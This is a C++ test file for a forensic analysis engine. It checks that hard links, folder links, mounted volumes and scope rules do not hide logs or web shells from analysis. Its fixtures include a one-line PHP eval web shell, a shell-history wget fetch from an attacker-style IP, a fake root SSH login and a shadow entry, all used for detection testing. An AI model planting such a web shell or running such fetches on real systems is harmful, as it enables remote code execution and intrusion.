// A file is what it is by each of its names: those that further hard links give it, and those that links between folders make.
#include <filesystem>

#include "engine/machine.hpp"
#include "support/test_main.hpp"

using namespace deadbox;
using test::Rows;

namespace {

constexpr const char* k_log_line = "2026-03-02T04:11:07+00:00 web sshd[7]: Accepted password for root from 198.51.100.9 port 4222 ssh2\n";
constexpr const char* k_shell = "<?php @eval($_POST['x']); ?>\n";
constexpr const char* k_logins = "SELECT count(*) FROM event e JOIN kind k ON k.id = e.kind WHERE k.type = 'auth.login.success'";
constexpr const char* k_log_read = "SELECT p.path FROM step s JOIN inode_path p ON p.inode = s.inode WHERE s.parser = 'syslog' AND s.outcome = 0";
constexpr const char* k_shells = "SELECT subject FROM finding WHERE rule = 'webshell/script'";

void add_site(test::Machine& machine) {
    machine.add("/var/www/html/index.html", "<html><body>shop</body></html>\n");
    machine.add("/var/www/html/up.php", k_shell);
}

bool runs_whole(const engine::AnalysisOptions& options) {
    engine::Progress progress;
    const auto result = engine::analyze(options, progress);
    if (!result) qWarning("%s", result.error().what.c_str());
    return result.has_value();
}

}  // namespace

class NamesTest : public QObject {
    Q_OBJECT
private slots:
    // Another name, found before the one that parsers ask for, hides nothing.
    void a_hard_link_hides_no_log_data() {
        QTest::addColumn<QString>("other");
        QTest::addColumn<QString>("profile");
        QTest::addColumn<QString>("chosen");  // names that stand in place of the first
        QTest::newRow("none") << "" << "full" << "0";
        QTest::newRow("in the root") << "/a" << "full" << "2";
        QTest::newRow("in the same folder") << "/var/log/0" << "full" << "1";
        QTest::newRow("deeper") << "/var/log/deep/er/z" << "full" << "0";
        QTest::newRow("in the root, triage") << "/a" << "triage" << "2";
    }
    void a_hard_link_hides_no_log() {
        QFETCH(QString, other);
        QFETCH(QString, profile);
        QFETCH(QString, chosen);
        test::Machine machine;
        machine.add("/var/log/auth.log", k_log_line);
        machine.add("/root/.bash_history", "wget http://198.51.100.9/x\n");
        if (!other.isEmpty()) {
            machine.add_name(other.toStdString(), "/var/log/auth.log");
            machine.add_name(other.toStdString() + "h", "/root/.bash_history");
        }
        QVERIFY(machine.build());
        auto options = machine.options("case.deadbox");
        if (profile == "triage") options.profile = engine::Profile::triage;
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, k_logins), Rows{"1"});
        QCOMPARE(test::rows(options.case_path, "SELECT DISTINCT p.path FROM step s JOIN inode_path p ON p.inode = s.inode WHERE s.parser IN ('syslog', 'shell_history') ORDER BY 1"),
                 (Rows{"/root/.bash_history", "/var/log/auth.log"}));
        QCOMPARE(test::rows(options.case_path, "SELECT count(*) FROM main_name"), Rows{chosen.toStdString()});
        // Read once: one content, one step.
        QCOMPARE(test::rows(options.case_path, "SELECT count(*), count(DISTINCT inode) FROM step WHERE parser = 'syslog'"), Rows{"1|1"});
    }

    void configuration_is_read_by_every_name() {
        test::Machine machine;
        machine.add("/etc/shadow", "root:$6$a$b:19000:0:99999:7:::\n");
        machine.add_name("/etc/passwd-", "/etc/shadow");
        machine.add_name("/0", "/etc/passwd");
        QVERIFY(machine.build());
        const auto options = machine.options("case.deadbox");
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, "SELECT DISTINCT p.path FROM account a JOIN inode_path p ON p.inode = a.inode WHERE a.user = 'martina'"), Rows{"/etc/passwd"});
    }

    void a_webshell_is_shown_where_the_server_gives_it_out_data() {
        QTest::addColumn<QStringList>("scope");
        QTest::addColumn<QStringList>("exclude");
        QTest::addColumn<bool>("found");
        QTest::addColumn<QString>("root");
        QTest::newRow("everything") << QStringList{} << QStringList{} << true << "/var/www/html";
        QTest::newRow("a folder that nothing names") << QStringList{} << QStringList{} << true << "/var/www/old/shop";
        QTest::newRow("a folder that a configuration names") << QStringList{} << QStringList{} << true << "/shop";
        QTest::newRow("one name in scope") << QStringList{"/var/**"} << QStringList{} << true << "/var/www/html";
        QTest::newRow("one name excluded") << QStringList{} << QStringList{"/zz", "/aa"} << true << "/var/www/html";
        QTest::newRow("no name in scope") << QStringList{"/etc/**"} << QStringList{} << false << "/var/www/html";
        QTest::newRow("every name excluded") << QStringList{} << QStringList{"/zz", "/aa", "/var/www/html/up.php"} << false << "/var/www/html";
    }
    void a_webshell_is_shown_where_the_server_gives_it_out() {
        QFETCH(QStringList, scope);
        QFETCH(QStringList, exclude);
        QFETCH(bool, found);
        QFETCH(QString, root);
        const auto shell = root.toStdString() + "/up.php";
        test::Machine machine;
        machine.add(shell, k_shell);
        if (root == "/shop") machine.add("/etc/nginx/conf.d/shop.conf", "server {\n    root /shop;\n}\n");
        machine.add_name("/aa", shell);
        machine.add_name("/zz", shell);
        QVERIFY(machine.build());
        auto options = machine.options("case.deadbox");
        for (const auto& glob : scope) options.scope.push_back(glob.toStdString());
        for (const auto& glob : exclude) options.exclude.push_back(glob.toStdString());
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, k_shells), found ? Rows{shell} : Rows{});
        const auto report = nlohmann::json::parse(test::report_of(options.case_path), nullptr, false);
        for (const auto& finding : report["findings"])
            for (const auto& item : finding["items"]) QCOMPARE(item["path"].get<std::string>(), shell);
    }

    void a_web_root_behind_a_link_is_one() {
        test::Machine plain, linked;
        add_site(plain);
        QVERIFY(plain.build());
        linked.add("/data/var/www/html/index.html", "<html><body>shop</body></html>\n");
        linked.add("/data/var/www/html/up.php", k_shell);
        linked.add_link("/var", "data/var");
        QVERIFY(linked.build());
        const auto a = plain.options("case.deadbox"), b = linked.options("case.deadbox");
        QVERIFY(runs_whole(a) && runs_whole(b));
        const char* sql = "SELECT rule, severity, confidence FROM finding WHERE rule = 'webshell/script'";
        QCOMPARE(test::rows(a.case_path, sql).size(), std::size_t{1});
        QCOMPARE(test::rows(b.case_path, sql), test::rows(a.case_path, sql));
        QCOMPARE(test::rows(b.case_path, k_shells), Rows{"/data/var/www/html/up.php"});
        QCOMPARE(test::rows(b.case_path, "SELECT path FROM web_root ORDER BY path"), (Rows{"/data/var/www/html", "/var/www/html"}));
    }

    void links_between_folders_are_followed_data() {
        QTest::addColumn<QStringList>("links");  // path, target, ...
        QTest::addColumn<QString>("log");
        QTest::newRow("the folder of logs") << QStringList{"/var/log", "/data/log"} << "/data/log/auth.log";
        QTest::newRow("relative") << QStringList{"/var/log", "../data/log"} << "/data/log/auth.log";
        QTest::newRow("a folder above") << QStringList{"/var", "/data/var"} << "/data/var/log/auth.log";
        QTest::newRow("one behind the other") << QStringList{"/var", "/data/var", "/data/var/log", "/srv/log"} << "/srv/log/auth.log";
        QTest::newRow("a link to a link") << QStringList{"/var/log", "/logs", "/logs", "/data/log"} << "/data/log/auth.log";
        QTest::newRow("below the linked folder") << QStringList{"/var/log", "/data/log"} << "/data/log/old/auth.log";
        QTest::newRow("above the root") << QStringList{"/var/log", "../../../../data/log"} << "/data/log/auth.log";
        QTest::newRow("in a circle") << QStringList{"/var/log", "/data/log", "/data/log/again", "/var/log", "/data/log/up", "..", "/a/x", "/b", "/b/y", "/a", "/c", "/d", "/d", "/c", "/e", "/e"} << "/data/log/auth.log";
    }
    void links_between_folders_are_followed() {
        QFETCH(QStringList, links);
        QFETCH(QString, log);
        test::Machine machine;
        machine.add(log.toStdString(), k_log_line);
        for (int i = 0; i < links.size(); i += 2) machine.add_link(links[i].toStdString(), links[i + 1].toStdString());
        QVERIFY(machine.build());
        const auto options = machine.options("case.deadbox");
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, k_logins), Rows{"1"});
        QCOMPARE(test::rows(options.case_path, k_log_read), Rows{log.toStdString()});
    }
    void a_link_into_a_mounted_volume_is_followed() {
        test::Machine machine, data;
        machine.add("/etc/fstab", "UUID=6b1b7454-0000-4000-8000-0000000000d2 /data ext4 defaults 0 2\n");
        machine.add("/data/.keep", "");
        machine.add_link("/var/log", "/data/log");
        QVERIFY(machine.build());
        std::filesystem::remove_all(data.path("tree") + "/etc");
        data.add("/log/auth.log", k_log_line);
        QVERIFY(data.build(16, "ext4", "6b1b7454-0000-4000-8000-0000000000d2"));
        auto options = machine.options("case.deadbox");
        options.evidence.push_back(data.image());
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, k_logins), Rows{"1"});
        QCOMPARE(test::rows(options.case_path, k_log_read), Rows{"/data/log/auth.log"});
    }
    void scope_is_asked_by_every_path_data() {
        QTest::addColumn<QString>("scope");
        QTest::addColumn<QString>("exclude");
        QTest::addColumn<QString>("logins");
        QTest::newRow("in scope by the link") << "/var/log/**" << "" << "1";
        QTest::newRow("in scope by its own path") << "/data/**" << "" << "1";
        QTest::newRow("excluded by the link") << "" << "/var/log/**" << "0";
        QTest::newRow("excluded by its own path") << "" << "/data/**" << "0";
    }
    void scope_is_asked_by_every_path() {
        QFETCH(QString, scope);
        QFETCH(QString, exclude);
        QFETCH(QString, logins);
        test::Machine machine;
        machine.add("/data/log/auth.log", k_log_line);
        machine.add_link("/var/log", "/data/log");
        QVERIFY(machine.build());
        auto options = machine.options("case.deadbox");
        if (!scope.isEmpty()) options.scope = {scope.toStdString()};
        if (!exclude.isEmpty()) options.exclude = {exclude.toStdString()};
        QVERIFY(runs_whole(options));
        QCOMPARE(test::rows(options.case_path, k_logins), Rows{logins.toStdString()});
    }

    void what_nobody_reads_stands_in_the_ledger() {
        test::Machine machine;
        machine.add("/var/log/journal/0b5d4a6c2f1e4c3b8a796857463524f1/system.journal", "LPKSHHRH");
        machine.add("/var/log/journal/0b5d4a6c2f1e4c3b8a796857463524f1/user-1000.journal", "LPKSHHRH");
        machine.add("/data/audit/audit.log", "type=USER_LOGIN msg=audit(1.0:1): pid=1\n");
        machine.add_link("/var/log/audit", "/data/audit");
        machine.add("/var/log/account/pacct", "");
        QVERIFY(machine.build());
        const auto options = machine.options("case.deadbox");
        engine::Progress progress;
        const auto result = engine::analyze(options, progress);
        QVERIFY(result && !result->gaps);  // a limit of the program, which leaves the exit status as it is
        QCOMPARE(test::rows(options.case_path, "SELECT area, level, count, folder FROM coverage WHERE area IN ('journald', 'auditd', 'accounting', 'accounts') ORDER BY area"),
                 (Rows{"auditd|limit|1|/var/log/audit", "journald|limit|2|/var/log/journal/0b5d4a6c2f1e4c3b8a796857463524f1"}));
    }
};
DEADBOX_TEST(NamesTest)
#include "names_test.moc"
